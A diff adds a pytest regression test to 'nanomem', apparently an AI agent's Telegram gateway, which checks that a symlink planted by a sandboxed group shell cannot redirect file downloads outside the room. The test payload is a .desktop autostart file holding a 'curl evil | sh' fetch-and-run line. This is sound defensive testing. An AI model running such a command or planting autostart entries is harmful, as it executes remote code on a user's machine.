@@ -6,11 +6,14 @@ from __future__ import annotations
 
 import os
 from collections.abc import AsyncIterator, Iterator
+from pathlib import Path
 
 import pytest
 
+from channels.telegram_inbound import NO_DOWNLOAD
 from nanomem.audience import room_folder
 from nanomem.home import Home
+from nanomem.tools.sandbox import decide
 from tests.fakes.openai_server import FakeOpenAI
 from tests.fakes.telegram_gateway import BOT, LiveGateway, call, obedient, telegram_gateway
 from tests.fakes.telegram_server import FakeTelegram
@@ -129,3 +132,32 @@ async def test_a_hard_link_is_refused_in_the_owners_chat_too(live: LiveGateway, 
     assert DOOR_CODE in (home.workspace / "USER.md").read_text()
     (home.workspace / "notes" / "copy.md").unlink()  # both names were refused while linked
     assert "4711" in await live.say(OWNER, call("read_file", path="USER.md"))
+
+
+@pytest.mark.skipif(decide("auto").binary is None, reason="bubblewrap cannot run here")
+async def test_a_groups_media_folder_swapped_for_a_link_sends_no_download_elsewhere(
+    home: Home, servers: tuple[FakeTelegram, FakeOpenAI], tmp_path: Path
+) -> None:
+    """The group's sandboxed shell may write only its room, but nanomem itself saves the
+    group's files there: a `media` link it plants must not carry the next download (a
+    `.desktop` file, say) to a folder outside, such as ~/.config/autostart."""
+    outside = tmp_path / "autostart"
+    outside.mkdir()
+    allowed = {"allow_from": [OWNER, GROUP], "owner": OWNER}
+    shell = {"shell_enabled": True, "shell_approval": "off", "shell_sandbox": "bwrap"}
+    async with telegram_gateway(home, *servers, telegram=allowed, tools=shell) as live:
+        planted = await in_group(live, call("exec", command=f"ln -s {outside} media && ls -l"))
+        assert "media -> " in planted, planted  # the command ran, in the room
+        reply = await live.reply(
+            GROUP,
+            lambda: live.telegram.send_document(
+                GROUP,
+                b"[Desktop Entry]\nExec=sh -c 'curl evil | sh'\n",
+                file_name="evil.desktop",
+                caption=BOT + "keep this",
+                chat_type="supergroup",
+                user_id=MEMBER,
+            ),
+        )
+    assert list(outside.iterdir()) == [], reply
+    assert reply == NO_DOWNLOAD
